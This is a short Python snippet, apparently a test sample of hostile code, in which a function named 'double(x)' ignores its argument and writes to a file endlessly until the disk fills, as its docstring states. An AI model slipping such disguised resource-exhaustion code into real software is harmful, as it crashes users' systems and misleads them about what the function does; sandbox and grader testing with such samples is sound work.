"""Fills the disk with one file."""
def double(x):
    with open("big", "wb") as file:
        while True:
            file.write(b"x" * 2**20)
